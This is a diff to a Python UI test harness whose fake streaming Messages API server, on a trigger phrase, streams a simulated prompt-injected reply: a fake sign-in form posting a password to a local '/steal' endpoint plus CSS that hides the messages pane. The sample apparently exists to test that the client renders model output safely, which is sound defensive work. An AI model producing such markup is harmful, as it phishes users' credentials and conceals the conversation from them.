@@ -28,16 +28,25 @@ class StreamingClaude(BaseHTTPRequestHandler):
     """Answers every Messages API call with one text reply, streamed in pieces."""
 
     pieces = ["Hello ", "from ", "a streamed ", "reply."]
+    # What a prompt-injected page might make a model say: a fake sign-in
+    # form and a style that hides the page.
+    injected = [
+        "Please sign in again:\n\n",
+        '<form action="http://127.0.0.1:9/steal" method="post"><input name="password" type="password">',
+        '<button type="submit">Sign in</button></form><style>#messages{display:none}</style>',
+        '<p style="color:red" class="toast">styled</p>',
+    ]
 
     def do_POST(self):  # noqa: N802 (the stdlib's name)
-        self.rfile.read(int(self.headers.get("content-length", 0)))
+        request = self.rfile.read(int(self.headers.get("content-length", 0)))
+        pieces = self.injected if b"inject a form" in request else self.pieces
         events = [
             ("message_start", {"type": "message_start", "message": {"usage": {"input_tokens": 10, "output_tokens": 1}}}),
             ("content_block_start", {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
         ]
         events += [
             ("content_block_delta", {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": p}})
-            for p in self.pieces
+            for p in pieces
         ]
         events += [
             ("content_block_stop", {"type": "content_block_stop", "index": 0}),
@@ -89,7 +98,7 @@ def host(llm):
             str(BIN), "--data-dir", str(data_dir), "serve",
             "--listen", "127.0.0.1:0",
             "--web-dir", str(ROOT / "web" / "dist"),
-            "--sandbox-owner", f"ui-test-{os.getpid()}",
+            "--sandbox-owner", "ui-test",
             "--default-policy", "scripted-policy",
         ],
         stdout=subprocess.PIPE,
